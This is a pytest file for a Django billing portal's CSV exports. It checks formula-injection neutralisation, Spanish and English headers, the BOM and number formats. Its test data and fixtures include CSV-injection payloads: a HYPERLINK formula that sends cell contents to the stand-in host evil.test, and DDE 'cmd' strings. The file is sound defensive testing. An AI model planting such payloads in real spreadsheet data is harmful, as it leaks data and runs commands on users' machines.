"""CSV exports: no cell a spreadsheet would run as a formula, UTF-8 with BOM, Spanish headers,
values and separators in the Spanish UI (English in the English one), the RUT with dots and dash."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from billing import ledger
from billing.models import Invoice
from portal.exports import neutralise
from tests.conftest import login_with_mfa

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.test/?x="&A1,"Ver")': '\'=HYPERLINK("http://evil.test/?x="&A1,"Ver")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Transferencia 4411": "Transferencia 4411",
    "Ñuñoa - sucursal": "Ñuñoa - sucursal",
}


@pytest.mark.parametrize(("typed", "written"), HOSTILE.items())
def test_formula_leading_text_is_neutralised(typed, written):
    assert neutralise(typed) == written


@pytest.fixture
def invoice(first_invoice) -> Invoice:
    invoice = first_invoice
    # The client's name is copied from what staff typed for the company: a hostile one.
    Invoice.objects.filter(pk=invoice.pk).update(client_name='=HYPERLINK("http://evil.test","Pagar")')
    return invoice


def _rows(response, delimiter: str) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


def test_the_invoice_export_in_the_spanish_ui(client, invoice, sam):
    login_with_mfa(client, sam)
    header, row = _rows(client.get(reverse("billing:invoices_csv")), ";")
    assert header == [
        "Número",
        "Fecha de emisión",
        "Fecha límite",
        "Cliente",
        "Proyecto",
        "RUT",
        "Moneda",
        "Neto",
        "IVA",
        "Total",
        "Monto pagado",
        "Estado",
    ]
    values = dict(zip(header, row, strict=True))
    assert values["Número"] == invoice.display_number
    assert values["Cliente"] == '\'=HYPERLINK("http://evil.test","Pagar")'
    assert values["RUT"] == "76.543.210-3"
    assert values["Fecha de emisión"] == invoice.issue_date.strftime("%d-%m-%Y")
    assert Decimal(values["Total"].replace(",", ".")) == invoice.total and "." not in values["Total"]
    assert values["Estado"] == str(invoice.get_status_display()) and values["Estado"] != invoice.status


def test_the_payment_export_neutralises_what_staff_typed(client, invoice, sam):
    for reference in ("+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"):
        ledger.payment_record(
            actor=sam,
            invoice=invoice,
            paid_on=timezone.localdate(),
            amount=Decimal("1000"),
            method="transfer",
            reference=reference,
        )
    login_with_mfa(client, sam)
    header, *rows = _rows(client.get(reverse("billing:payments_csv")), ";")
    assert header == [
        "Fecha de pago",
        "Documento",
        "Cliente",
        "Proyecto",
        "Moneda",
        "Monto",
        "Medio de pago",
        "Referencia",
    ]
    assert [row[-1] for row in rows] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"]
    assert {row[6] for row in rows} == {"Transferencia bancaria"}
    assert {row[5] for row in rows} == {"1000,00"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_english_ui_gets_english_headers_commas_and_the_portals_dates(client, invoice, sam):
    login_with_mfa(client, sam)
    client.cookies["django_language"] = "en"
    header, row = _rows(client.get(reverse("billing:invoices_csv")), ",")
    assert header[:4] == ["Number", "Issue date", "Due date", "Client"] and header[-1] == "Status"
    assert header[4] == "Engagement"
    # One date format in every language (dd-mm-yyyy), as on the pages and in the PDFs.
    assert row[1] == invoice.issue_date.strftime("%d-%m-%Y") and row[5] == "76.543.210-3"
    assert row[-1] == "Issued"
